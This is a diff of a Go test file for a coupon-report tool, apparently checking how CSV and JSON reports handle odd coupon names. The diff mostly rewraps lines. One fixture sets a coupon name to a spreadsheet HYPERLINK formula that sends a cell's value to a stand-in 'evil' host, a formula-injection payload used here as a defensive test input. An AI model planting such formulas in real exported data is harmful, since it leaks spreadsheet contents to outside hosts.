@@ -18,7 +18,8 @@ func finance(w *world) {
 	opens, closes := kst("2025-11-10 00:00:00"), kst("2025-12-10 00:00:00")
 	first, second := w.AddCouponBetween(2, opens, closes), w.AddCouponBetween(500, opens, closes)
 	w.Exec("UPDATE coupon SET discount_won = 1500000 WHERE id = ?", first)
-	w.Exec("UPDATE coupon SET discount_won = 5000, name = ? WHERE id = ?", `=HYPERLINK("http://evil/?"&A1,"<b>당첨</b>")`, second)
+	w.Exec("UPDATE coupon SET discount_won = 5000, name = ? WHERE id = ?", `=HYPERLINK("http://evil/?"&A1,"<b>당첨</b>")`,
+		second)
 	w.AddUsers(between(1, 9)...)
 	w.Exec("UPDATE `user` SET status = 'BLOCKED' WHERE id = 4")
 	w.ApplyAt(first, "1", kst("2025-11-20 10:00:00"))
@@ -31,7 +32,8 @@ func finance(w *world) {
 		succeeds(w.T)(w.settle("run", "--date="+date, "--operator=kim", "--reason=test"))
 	}
 	w.Exec("UPDATE run_coupon SET duration_ms = 12")
-	require.NoError(w.T, w.Redis.HIncrBy(w.T.Context(), "state:{"+w.Queue(second)+"}", "accepted", -3).Err()) // a gap below zero
+	// A gap below zero.
+	require.NoError(w.T, w.Redis.HIncrBy(w.T.Context(), "state:{"+w.Queue(second)+"}", "accepted", -3).Err())
 	w.Exec("UPDATE promise SET accepted = 0 WHERE coupon_id = ?", second)
 }
 
@@ -74,7 +76,8 @@ func (w *world) report(args ...string) (r reportJSON) {
 
 // withoutTimeOfReport removes when a report was made.
 func withoutTimeOfReport(report string) string {
-	return regexp.MustCompile(`generated at [^<\n]*|"generatedAt": .*|as of [^<\n]*|"asOf": .*|,false,0,0,[^,]*,`).ReplaceAllString(report, "")
+	return regexp.MustCompile(`generated at [^<\n]*|"generatedAt": .*|as of [^<\n]*|"asOf": .*|,false,0,0,[^,]*,`).
+		ReplaceAllString(report, "")
 }
 
 func TestReport_ReplacesFileAtomically(t *testing.T) {
@@ -105,7 +108,8 @@ func TestReport_BesideLockedCoupon(t *testing.T) {
 	w.Exec("UPDATE coupon SET name = '=1+1' WHERE id = ?", held)
 	w.ApplyAt(free, "1", kst("2025-11-20 10:00:00"))
 	w.ApplyAt(held, "1", kst("2025-11-20 10:00:00"))
-	require.NoError(t, w.Redis.HIncrBy(t.Context(), "state:{"+w.Queue(held)+"}", "accepted", 1).Err()) // a gap is looked at under the lock
+	// A gap is looked at under the lock.
+	require.NoError(t, w.Redis.HIncrBy(t.Context(), "state:{"+w.Queue(held)+"}", "accepted", 1).Err())
 	tx, err := w.DB.Begin()
 	require.NoError(t, err)
 	t.Cleanup(func() { _ = tx.Rollback() })
@@ -125,7 +129,8 @@ func TestReport_BesideLockedCoupon(t *testing.T) {
 			require.Equal(t, exitInfrastructure, code)
 			require.Contains(t, stdout, says)
 			if output == "csv" {
-				require.Regexp(t, `,"report coupon 2: Error 1205 [^"]*",+\r\n$`, stdout, "before the columns that came later")
+				require.Regexp(t, `,"report coupon 2: Error 1205 [^"]*",+\r\n$`, stdout,
+					"before the columns that came later")
 			}
 			if output == "json" {
 				var r reportJSON
